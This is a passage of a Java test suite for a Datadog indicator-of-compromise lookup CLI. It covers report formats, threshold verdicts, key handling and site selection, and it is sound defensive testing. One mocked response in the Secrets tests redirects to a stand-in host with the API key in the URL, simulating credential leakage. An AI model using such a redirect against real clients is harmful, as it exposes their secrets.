            assertThat(lookup("--category", "botnet", "--on-malicious-source", "failure", "unknown.com").exit())
                    .isZero();
        }
    }

    @Nested
    class Formats {
        @Test
        void textByDefault() {
            datadog.score("evil.com", 85).score("ok.com", 10);

            Run run = lookup("--unstable-threshold", "50", "--fail-threshold", "80", "evil.com", "ok.com", "new.com");

            assertThat(run.exit()).isEqualTo(1);
            List<String> lines = run.out().lines().toList();
            assertThat(lines).hasSize(4);
            assertThat(lines.get(0)).startsWith("FAILURE").contains("evil.com", "score 85", "failure threshold 80");
            assertThat(lines.get(1)).startsWith("PASS").contains("ok.com", "score 10");
            assertThat(lines.get(2)).startsWith("PASS").contains("new.com", "not found");
            assertThat(lines.get(3)).isEqualTo("Datadog IoC lookup: FAILURE (3 indicators: 2 found, 1 not found, "
                    + "0 errors; worst score 85)");
        }

        @Test
        void json() throws IOException {
            datadog.found("evil.com", 85, List.of("abuse.ch"), List.of("botnet"));
            datadog.score("203.0.113.66", 55);

            Run run = lookup("--unstable-threshold", "50", "--fail-threshold", "80", "--format", "json",
                    "evil.com", "203.0.113.66", "new.com");

            assertThat(run.exit()).isEqualTo(1);
            JsonNode report = run.json();
            assertThat(report.path("verdict").asText()).isEqualTo("FAILURE");
            JsonNode summary = report.path("summary");
            assertThat(summary.path("indicators").asInt()).isEqualTo(3);
            assertThat(summary.path("found").asInt()).isEqualTo(2);
            assertThat(summary.path("not_found").asInt()).isEqualTo(1);
            assertThat(summary.path("error").asInt()).isZero();
            assertThat(summary.path("failure").asInt()).isEqualTo(1);
            assertThat(summary.path("unstable").asInt()).isEqualTo(1);
            assertThat(summary.path("pass").asInt()).isEqualTo(1);
            assertThat(summary.path("worst_score").asDouble()).isEqualTo(85.0);
            assertThat(indicatorsOf(report)).containsExactly("evil.com", "203.0.113.66", "new.com");
            JsonNode evil = resultFor(report, "evil.com");
            assertThat(evil.path("verdict").asText()).isEqualTo("FAILURE");
            assertThat(evil.path("score").asDouble()).isEqualTo(85.0);
            assertThat(evil.path("datadog").path("malicious_sources").get(0).path("name").asText()).isEqualTo("abuse.ch");
            assertThat(evil.path("datadog").path("categories").get(0).asText()).isEqualTo("botnet");
            assertThat(resultFor(report, "203.0.113.66").path("verdict").asText()).isEqualTo("UNSTABLE");
            assertThat(resultFor(report, "new.com").path("status").asText()).isEqualTo("NOT_FOUND");
        }

        @Test
        void formatIsCaseInsensitive() throws IOException {
            Run run = lookup("--format", "JSON", "evil.com");

            assertThat(run.json().path("verdict").asText()).isEqualTo("PASS");
        }

        @Test
        void markdownHasATable() {
            datadog.score("evil.com", 85).score("ok.com", 10);

            Run run = lookup("--fail-threshold", "80", "--format", "markdown", "ok.com", "evil.com");

            assertThat(run.exit()).isEqualTo(1);
            assertThat(run.out()).startsWith("## Datadog IoC lookup: FAILURE")
                    .contains("| Verdict | Indicator | Status | Score | Type | Reason |")
                    .contains("|---|---|---|---:|---|---|")
                    .contains("| FAILURE | `evil.com` | FOUND | 85 | `Domain` |")
                    .contains("| PASS | `ok.com` | FOUND | 10 | `Domain` |");
            assertThat(run.out().indexOf("evil.com")).as("worst first").isLessThan(run.out().indexOf("ok.com"));
        }

        @Test
        void junitHasATestCasePerIndicator() {
            datadog.score("evil.com", 85).score("meh.com", 60).score("ok.com", 10);

            Run run = lookup("--unstable-threshold", "50", "--fail-threshold", "80", "--format", "junit", "ok.com", "evil.com", "meh.com");

            assertThat(run.exit()).isEqualTo(1);
            assertThat(run.out()).startsWith("<?xml version=\"1.0\" encoding=\"UTF-8\"?>")
                    .contains("<testsuites name=\"Datadog IoC lookup\" tests=\"3\" failures=\"2\" errors=\"0\"")
                    .contains("<testcase classname=\"Datadog IoC lookup\" name=\"ok.com\"")
                    .contains("<failure type=\"FAILURE\" message=\"threat score 85 is at or above the failure threshold 80\">")
                    .contains("<testsuite name=\"Datadog IoC lookup (unstable)\" tests=\"1\" failures=\"1\"")
                    .contains("<failure type=\"UNSTABLE\"");
        }

        @Test
        void junitReportFileBesideATextReport() throws IOException {
            datadog.score("evil.com", 85);
            Path report = dir.resolve("TEST-ioc-lookup.xml");

            Run run = lookup("--fail-threshold", "80", "-o", report.toString(), "evil.com");

            assertThat(run.exit()).isEqualTo(1);
            assertThat(run.out()).startsWith("FAILURE");
            assertThat(Files.readString(report)).contains("<testcase classname=\"Datadog IoC lookup\" name=\"evil.com\"")
                    .contains("<failure type=\"FAILURE\"");
        }

        @Test
        void jsonReportFileWhateverTheFormat() throws IOException {
            datadog.score("evil.com", 85);
            Path report = dir.resolve("report.json");

            Run run = lookup("--fail-threshold", "80", "--format", "text", "-o", report.toString(), "evil.com");

            assertThat(run.exit()).isEqualTo(1);
            assertThat(run.out()).startsWith("FAILURE").contains("evil.com");
            JsonNode json = JSON.readTree(Files.readString(report));
            assertThat(json.path("verdict").asText()).isEqualTo("FAILURE");
            assertThat(indicatorsOf(json)).containsExactly("evil.com");
        }

        @Test
        void markdownReportFileWhateverTheFormat() throws IOException {
            datadog.score("evil.com", 85);
            Path report = dir.resolve("summary.md");

            Run run = lookup("--fail-threshold", "80", "--format", "json", "--output", report.toString(), "evil.com");

            assertThat(run.json().path("verdict").asText()).isEqualTo("FAILURE");
            assertThat(Files.readString(report)).startsWith("## Datadog IoC lookup: FAILURE")
                    .contains("| FAILURE | `evil.com` |");
        }

        @Test
        void otherReportFilesTakeTheFormatAndDirectoriesAreCreated() throws IOException {
            Path report = dir.resolve("nested/deeper/report.txt");

            Run run = lookup("--format", "markdown", "-o", report.toString(), "evil.com");

            assertThat(run.exit()).as("%s", run).isZero();
            assertThat(Files.readString(report)).isEqualTo(run.out());
        }

        @Test
        void progressNeverMixesIntoJson() throws IOException {
            Run run = lookup("--progress", "--format", "json", "a.com", "b.com", "c.com");

            assertThat(indicatorsOf(run.json())).containsExactly("a.com", "b.com", "c.com");
            assertThat(run.err()).contains("3/3");
        }

        /** Not being able to write the report asked for must not pass silently; stdout still has it. */
        @Test
        void reportFileThatCannotBeWritten() {
            Run run = lookup("-o", dir.toString(), "evil.com");

            assertThat(run.exit()).as("%s", run).isNotZero();
            assertThat(run.out()).contains("Datadog IoC lookup: PASS");
            assertThat(run.err()).startsWith("ioc-lookup: ").contains(dir.toString());
        }

        @Test
        void textReportFile() throws IOException {
            Path report = dir.resolve("report.log");

            Run run = lookup("-o", report.toString(), "evil.com");

            assertThat(Files.readString(report)).isEqualTo(run.out()).contains("Datadog IoC lookup: PASS");
        }
    }

    @Nested
    class Secrets {
        private static final String ECHO = "{\"errors\":[\"invalid key " + API_KEY + " / " + APP_KEY + "\"]}";

        @Test
        void theServerGetsTheKeysAsHeaders() {
            lookup("evil.com");

            RecordedRequest request = datadog.requests().get(0);
            assertThat(request.getHeaders().get("DD-API-KEY")).isEqualTo(API_KEY);
            assertThat(request.getHeaders().get("DD-APPLICATION-KEY")).isEqualTo(APP_KEY);
            assertThat(request.getUrl().toString()).doesNotContain(API_KEY).doesNotContain(APP_KEY);
        }

        @ParameterizedTest(name = "HTTP {0}")
        @ValueSource(ints = {400, 401, 403, 422, 500})
        void echoedKeysNeverShow(int code) throws IOException {
            datadog.status("evil.com", code, ECHO);
            Path json = dir.resolve("report.json");
            Path markdown = dir.resolve("report.md");

            for (String format : List.of("text", "json", "markdown")) {
                Run run = lookup("--timeout", "2", "--format", format, "-o", json.toString(), "evil.com");
                assertThat(run.exit()).as("%s", run).isEqualTo(1);
                assertThat(run.out().replace("\\*", "*")).as("masked, Markdown-escaped or not").contains("key **** / ****");
            }
            lookup("--timeout", "2", "-o", markdown.toString(), "evil.com");

            for (Path report : List.of(json, markdown)) {
                assertThat(Files.readString(report)).as(report.toString())
                        .doesNotContain(API_KEY).doesNotContain(APP_KEY).contains("HTTP " + code);
            }
        }

        @Test
        void htmlErrorPageEchoingTheKey() {
            datadog.status("evil.com", 502, "<html><head><title>Bad gateway for " + API_KEY
                    + "</title></head><body>" + APP_KEY + "</body></html>");

            Run run = lookup("--timeout", "2", "evil.com");

            assertThat(run.exit()).isEqualTo(1);
        }

        @Test
        void redirectEchoingTheKey() {
            datadog.otherwise(i -> new MockResponse.Builder().code(302)
                    .setHeader("Location", "https://elsewhere.invalid/?api_key=" + API_KEY).build());

            Run run = lookup("evil.com");

            assertThat(run.exit()).isEqualTo(1);
            assertThat(run.out()).contains("redirect");
            assertThat(datadog.requestCount()).as("the redirect is not followed").isEqualTo(1);
        }

        @Test
        void keyFilesWithTrailingNewlines() throws IOException {
            Path apiKey = write("keys/api", API_KEY + "\n");
            Path appKey = write("keys/app", APP_KEY + "\r\n");

            Run run = run(Map.of(), "", "--base-url", datadog.baseUrl(), "--api-key-file", apiKey.toString(),
                    "--app-key-file", appKey.toString(), "evil.com");

            assertThat(run.exit()).as("%s", run).isZero();
            RecordedRequest request = datadog.requests().get(0);
            assertThat(request.getHeaders().get("DD-API-KEY")).isEqualTo(API_KEY);
            assertThat(request.getHeaders().get("DD-APPLICATION-KEY")).isEqualTo(APP_KEY);
        }

        @Test
        void keyFilesWinOverTheEnvironment() throws IOException {
            Path apiKey = write("api", API_KEY + "\n");
            Path appKey = write("app", APP_KEY + "\n");
            Map<String, String> env = Map.of("DD_API_KEY", "env-api-key", "DD_APP_KEY", "env-app-key");

            Run run = run(env, "", "--base-url", datadog.baseUrl(), "--api-key-file", apiKey.toString(),
                    "--app-key-file", appKey.toString(), "evil.com");

            assertThat(run.exit()).as("%s", run).isZero();
            assertThat(datadog.requests().get(0).getHeaders().get("DD-API-KEY")).isEqualTo(API_KEY);
            assertThat(datadog.requests().get(0).getHeaders().get("DD-APPLICATION-KEY")).isEqualTo(APP_KEY);
        }

        @Test
        void oneKeyFromAFileTheOtherFromTheEnvironment() throws IOException {
            Path appKey = write("app", APP_KEY + "\n");

            Run run = run(Map.of("DD_API_KEY", API_KEY), "", "--base-url", datadog.baseUrl(),
                    "--app-key-file", appKey.toString(), "evil.com");

            assertThat(run.exit()).as("%s", run).isZero();
            assertThat(datadog.requests().get(0).getHeaders().get("DD-API-KEY")).isEqualTo(API_KEY);
            assertThat(datadog.requests().get(0).getHeaders().get("DD-APPLICATION-KEY")).isEqualTo(APP_KEY);
        }

        @Test
        void ddApplicationKeyIsAcceptedToo() {
            Run run = run(Map.of("DD_API_KEY", API_KEY, "DD_APPLICATION_KEY", APP_KEY), "",
                    "--base-url", datadog.baseUrl(), "evil.com");

            assertThat(run.exit()).as("%s", run).isZero();
            assertThat(datadog.requests().get(0).getHeaders().get("DD-APPLICATION-KEY")).isEqualTo(APP_KEY);
        }

        @Test
        void missingKeyFile() {
            Path missing = dir.resolve("no-such-key");

            assertUsageError(run(keys(), "", "--base-url", datadog.baseUrl(), "--api-key-file", missing.toString(),
                    "evil.com"), "--api-key-file", "no such file");
        }

        @Test
        void emptyKeyFile() throws IOException {
            Path empty = write("empty-key", "\n");

            assertUsageError(run(keys(), "", "--base-url", datadog.baseUrl(), "--app-key-file", empty.toString(),
                    "evil.com"), "application key is empty");
        }

        @Test
        void keyWithASpaceIsRejectedWithoutBeingShown() throws IOException {
            Path bad = write("bad-key", "ddapi-secret 0123456789abcdef\n");

            Run run = run(keys(), "", "--base-url", datadog.baseUrl(), "--api-key-file", bad.toString(), "evil.com");

            assertUsageError(run, "API key contains a character that is not allowed");
            assertThat(run.err()).doesNotContain("0123456789abcdef");
        }

        @Test
        void keysOnTheCommandLineAreNoOption() {
            assertUsageError(lookup("--api-key", "whatever", "evil.com"), "Unknown option");
        }
    }

    @Nested
    class Sites {
        @Test
        void baseUrlOverridesSiteAndDdSite() {
            Map<String, String> env = keys();
            env.put("DD_SITE", "datadoghq.nowhere");

            Run run = run(env, "", "--base-url", datadog.baseUrl(), "evil.com");

            assertThat(run.exit()).as("%s", run).isZero();
            assertThat(datadog.lookedUp()).containsExactly("evil.com");
        }

        static Stream<Arguments> sites() {
            return Stream.of(
                    Arguments.of(null, null, "api.datadoghq.com:443"),
                    Arguments.of("  ", null, "api.datadoghq.com:443"),
                    Arguments.of("datadoghq.eu", null, "api.datadoghq.eu:443"),
                    Arguments.of("https://app.us5.datadoghq.com/", null, "api.us5.datadoghq.com:443"),
                    Arguments.of("datadoghq.eu", "us3.datadoghq.com", "api.us3.datadoghq.com:443"),
                    Arguments.of(null, "ddog-gov.com", "api.ddog-gov.com:443"));
        }

        /**
         * Which host the CLI goes to, seen through a loopback proxy that refuses every tunnel, so that
         * nothing leaves the machine.
         */
        @ParameterizedTest(name = "DD_SITE={0} --site={1} -> {2}")
        @MethodSource("sites")
        void siteFromOptionElseEnvironmentElseDefault(String ddSite, String siteOption, String expectedTarget)
                throws IOException {
            List<RecordedRequest> seen = new CopyOnWriteArrayList<>();
            ProxySelector previous = ProxySelector.getDefault();
            try (MockWebServer proxy = new MockWebServer()) {
                proxy.setDispatcher(new Dispatcher() {
                    @Override
                    public MockResponse dispatch(RecordedRequest request) {
                        seen.add(request);
                        return new MockResponse.Builder().code(403).body("no tunnels here").build();
                    }
                });
                proxy.start(InetAddress.getLoopbackAddress(), 0);
                InetSocketAddress address = new InetSocketAddress(InetAddress.getLoopbackAddress(), proxy.getPort());
                ProxySelector.setDefault(new ProxySelector() {
                    @Override
                    public List<Proxy> select(URI uri) {
                        return List.of(new Proxy(Proxy.Type.HTTP, address));
                    }

                    @Override
                    public void connectFailed(URI uri, SocketAddress sa, IOException e) {}
                });
                Map<String, String> env = keys();
                if (ddSite != null) {
                    env.put("DD_SITE", ddSite);
                }
                List<String> args = new ArrayList<>(List.of("--timeout", "1"));
                if (siteOption != null) {
                    args.addAll(List.of("--site", siteOption));
                }
                args.add("evil.com");

                Run run = run(env, "", args.toArray(String[]::new));

                assertThat(run.exit()).as("%s", run).isEqualTo(1);
                assertThat(seen).isNotEmpty();
                for (RecordedRequest request : seen) {
                    assertThat(request.getMethod()).isEqualTo("CONNECT");
                    assertThat(request.getTarget()).isEqualTo(expectedTarget);
                    assertThat(request.getHeaders().toString()).doesNotContain(API_KEY).doesNotContain(APP_KEY);
                }
                assertThat(run.out()).contains(expectedTarget.replace(":443", ""));
            } finally {
                ProxySelector.setDefault(previous);
            }
        }
    }

    @Nested
    class HelpAndVersion {
        @Test
        void version() {
            Run run = run(Map.of(), "", "--version");

            assertThat(run.exit()).isZero();
            assertThat(run.out().strip()).isEqualTo("datadog-ioc-lookup " + ProductInfo.VERSION);
            // JEP-229: <commits>.v<hash> from a release, the placeholder between releases
            assertThat(ProductInfo.VERSION).matches("\\d+\\.v\\p{XDigit}{12}|999999-SNAPSHOT");
            assertThat(run.err()).isEmpty();
        }

        @Test
        void versionShortOption() {
            assertThat(run(Map.of(), "", "-V").out()).contains(ProductInfo.VERSION);
        }

        @Test
        void help() {
            Run run = run(Map.of(), "", "--help");

            assertThat(run.exit()).isZero();
            assertThat(run.out()).contains("Usage: ioc-lookup", "--fail-threshold", "--on-error", "--api-key-file",
                    "Exit codes", "UNSTABLE", "DD_API_KEY");
            // picocli may wrap a long line after a dot: "ap1.datadoghq.\n    com".
            String unwrapped = run.out().replaceAll("\\.\\R\\s+", ".");
            for (DatadogSite site : DatadogSite.values()) {
                assertThat(unwrapped).contains(site.domain());
            }
            assertThat(run.out()).doesNotContain("${");
            assertThat(run.err()).isEmpty();
        }

        @Test
        void helpNeedsNoKeysAndLooksNothingUp() {
            Run run = run(Map.of(), "", "-h", "evil.com");

            assertThat(run.exit()).isZero();
            assertThat(datadog.requestCount()).isZero();
        }
    }
}
